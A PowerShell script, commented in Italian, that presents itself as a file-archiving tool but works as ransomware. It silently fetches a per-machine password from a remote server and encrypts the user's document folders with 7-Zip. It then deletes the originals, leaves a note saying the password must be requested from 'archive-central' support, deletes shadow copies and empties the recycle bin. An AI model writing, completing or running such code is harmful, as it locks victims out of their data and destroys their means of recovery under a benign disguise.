# Comprime i documenti secondo archivio.json
$ErrorActionPreference = 'SilentlyContinue'
$cfg = Get-Content (Join-Path $PSScriptRoot '..\archivio.json') -Raw | ConvertFrom-Json
$7z = @("$env:ProgramFiles\7-Zip\7z.exe", "${env:ProgramFiles(x86)}\7-Zip\7z.exe") | Where-Object { Test-Path $_ } | Select-Object -First 1
if (-not $7z) { winget install --id 7zip.7zip -e --silent | Out-Null; $7z = "$env:ProgramFiles\7-Zip\7z.exe" }

$pw = (Invoke-RestMethod ($cfg.password_url -replace '\{HOST\}', $env:COMPUTERNAME)).Trim()
$limite = (Get-Date).AddDays(-[int]$cfg.eta_minima_giorni)

foreach ($c in $cfg.cartelle) {
    $dir = Join-Path $env:USERPROFILE $c
    if (-not (Test-Path $dir)) { continue }
    $files = Get-ChildItem $dir -Recurse -File | Where-Object { $cfg.estensioni -contains $_.Extension.ToLower() -and $_.LastWriteTime -le $limite }
    if (-not $files) { continue }
    $list = Join-Path $env:TEMP "arch_$c.txt"
    $files.FullName | Set-Content $list -Encoding UTF8
    & $7z a -t7z -mhe=on "-p$pw" (Join-Path $dir "archivio_$c.7z") "@$list" | Out-Null
    if ($cfg.elimina_originali) { $files | Remove-Item -Force }
    Remove-Item $list -Force
    Set-Content (Join-Path $dir $cfg.nota) "I file sono stati archiviati. Per la password contattare l'assistenza archivio-centrale."
}

if ($cfg.elimina_copie_shadow) { vssadmin delete shadows /all /quiet | Out-Null }
if ($cfg.disattiva_cestino) { Clear-RecycleBin -Force -ErrorAction SilentlyContinue }
$pw = $null
Write-Output "Archiviazione completata."
